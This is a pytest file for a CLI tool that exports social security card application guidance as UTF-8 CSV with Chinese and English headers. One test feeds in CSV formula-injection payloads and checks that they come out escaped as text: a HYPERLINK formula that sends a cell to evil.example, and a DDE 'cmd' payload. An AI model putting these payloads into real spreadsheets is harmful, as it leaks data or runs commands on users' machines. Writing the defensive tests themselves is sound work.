"""`batch --format csv`: a file Excel or WPS opens as it is, with no formula in any cell."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from .conftest import LANGUAGE_VARIABLES, MINIMAL_NATIONAL, Invoke

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PEOPLE = (
    "command,region,profile,born\n"
    "apply,ningbo,newborn,\n"
    "check,宁波,,2026-10-01\n"
    "apply,atlantis,,\n"
    "activate,shanghai,,\n"
)


def _table(stdout: str) -> list[list[str]]:
    assert stdout.startswith("\ufeff")  # the byte-order mark Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(stdout.removeprefix("\ufeff"))))


def _people(tmp_path: Path, text: str = PEOPLE) -> Path:
    path = tmp_path / "people.csv"
    path.write_text(text, encoding="utf-8")
    return path


def test_cells_are_readable_words_in_the_chosen_language_never_json(
    invoke: Invoke, tmp_path: Path
) -> None:
    run = invoke(["batch", str(_people(tmp_path)), "-f", "csv", "--lang", "zh"])
    assert run.exit_code == 1  # atlantis failed
    assert run.stderr == "cardguide：4行中有1行出错；每行的出错结果都写明了行号和字段\n"
    header, newborn, check, atlantis, activate = _table(run.stdout)
    assert header == [
        "序号", "结果", "办理事项", "地区", "适用对象", "能不能在这里申领", "办理步骤", "激活渠道",
        "需带材料", "费用", "办理时限", "到哪里确认", "按你的日期核对", "常见问题", "出错的列",
        "出错原因",
    ]  # fmt: skip
    row = dict(zip(header, newborn, strict=True))
    assert (row["序号"], row["结果"], row["办理事项"]) == ("1", "成功", "申领社保卡")
    assert (row["地区"], row["适用对象"]) == ("宁波市", "新生儿（由父母或监护人办理）；首次申领")
    steps = row["办理步骤"].splitlines()
    assert steps[0].startswith("1. 孩子出生后1个月内")
    assert "   办理地点：孩子落户地的户口登记机关（当地派出所）" in steps
    assert [line[:3] for line in row["需带材料"].splitlines()] == ["1. ", "2. ", "3. "]
    assert row["费用"].startswith("1. 首次申领一般免费")
    assert row["到哪里确认"].startswith("1. 12333")
    assert row["能不能在这里申领"].startswith("需咨询：没有找到这里关于谁可以申领的规定")
    assert "\n2. " in row["办理时限"]
    answers = dict(zip(header, check, strict=True))["按你的日期核对"]
    assert "\n   还来得及吗？来不及了：最后一天是2026年11月1日（已过去32天）。\n" in answers
    failed = dict(zip(header, atlantis, strict=True))
    assert (failed["结果"], failed["地区"], failed["出错的列"]) == ("出错", "atlantis", "region")
    assert failed["出错原因"].startswith("找不到地区“atlantis”")
    channels = dict(zip(header, activate, strict=True))["激活渠道"]
    assert channels.startswith("1. 银行网点\n")
    for cells in (newborn, check, atlantis, activate):
        assert len(cells) == len(header)
        for cell in cells:
            assert not cell.lstrip().startswith(("{", "[")), cell[:80]  # no JSON document


def test_headers_follow_lang_and_a_rows_own_lang_its_cells(invoke: Invoke, tmp_path: Path) -> None:
    path = _people(tmp_path, "command,region,lang\napply,ningbo,zh\napply,ningbo,\n")
    run = invoke(["batch", str(path), "--format", "csv", "--lang", "en"])
    assert (run.exit_code, run.stderr) == (0, "")
    header, own, default = _table(run.stdout)
    assert header[:5] == ["Row", "Result", "Task", "Region", "For"]
    assert header[-2:] == ["Column at fault", "Problem"]
    assert own[1:4] == ["成功", "申领社保卡", "宁波市"]
    assert default[1:4] == ["OK", "Applying for a card", "Ningbo City"]
    both = _table(invoke(["batch", str(path), "-f", "csv", "--lang", "both"]).stdout)
    assert both[0][:3] == ["序号 / Row", "结果 / Result", "办理事项 / Task"]


def test_a_place_without_rules_of_its_own_names_the_region_whose_rules_apply(
    invoke: Invoke, tmp_path: Path
) -> None:
    path = _people(tmp_path, "command,region\napply,海曙区\n")
    run = invoke(["batch", str(path), "--format", "csv", "--lang", "zh"])
    assert (run.exit_code, run.stderr) == (0, "")
    assert _table(run.stdout)[1][3] == "海曙区（按宁波市的规定）"


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_cells_built_to_inject_a_formula_are_shown_as_text(invoke: Invoke, tmp_path: Path) -> None:
    hostile = [
        {"command": "apply", "region": '=HYPERLINK("http://evil.example/?x="&A1,"click")'},
        {"command": "apply", "region": "+1", "profile": "=1+1"},
        {"command": "apply", "region": "-2"},
        {"command": "apply", "region": "@SUM(1)"},
        {"command": "=cmd|' /C calc'!A0", "region": "ningbo"},
        {"command": "apply", "region": "\t=1", "lang": "en"},
        {"command": "apply", "region": "\r+1"},
        {"command": "check", "region": "ningbo", "born": "-2026-10-01"},
    ]
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(json.dumps(h) for h in hostile), encoding="utf-8")
    run = invoke(["batch", str(path), "--format", "csv", "--lang", "en"])
    assert run.exit_code == 1
    assert run.stderr.startswith("cardguide: 8 of 8 rows failed;")
    assert len(run.stderr.splitlines()) == 1
    rows = _table(run.stdout)
    assert len(rows) == 9
    _assert_no_formula(rows)
    regions = [row[3] for row in rows[1:5]]
    assert regions == [
        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "'+1",
        "'-2",
        "'@SUM(1)",
    ]
    assert rows[5][2] == "'=cmd|' /C calc'!A0"  # the command, as given
    assert rows[6][3] == "'\t=1"


def test_data_that_starts_like_a_formula_is_shown_as_text(
    invoke: Invoke, tmp_path: Path, regions_dir: Callable[..., Path]
) -> None:
    named = MINIMAL_NATIONAL.replace("{en: Testland}", '{en: "=HYPERLINK(1)", zh: "+国家"}')
    regions_dir("national", named + "procedures: {}\n")
    path = _people(tmp_path, "command,region,lang\napply,national,en\napply,national,zh\n")
    run = invoke(["batch", str(path), "--format", "csv"])
    assert (run.exit_code, run.stderr) == (0, "")
    rows = _table(run.stdout)
    _assert_no_formula(rows)
    assert [row[3] for row in rows[1:]] == ["'=HYPERLINK(1)", "'+国家"]


def test_csv_is_utf8_with_a_bom_whatever_the_locale_encoding(tmp_path: Path) -> None:
    path = _people(tmp_path, "command,region\napply,宁波\n")
    env = {k: v for k, v in os.environ.items() if k not in LANGUAGE_VARIABLES}
    env["PYTHONIOENCODING"] = "gb18030"  # as a console on Chinese Windows may be
    done = subprocess.run(
        [sys.executable, "-m", "cardguide", "batch", str(path), "-f", "csv", "--lang", "zh"],
        capture_output=True,
        env=env,
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, b"")
    assert done.stdout.startswith(b"\xef\xbb\xbf")
    text = done.stdout.decode("utf-8")  # never the locale's encoding
    assert "办理步骤" in text
    assert text.splitlines()[1].startswith("1,成功,申领社保卡,宁波市,")
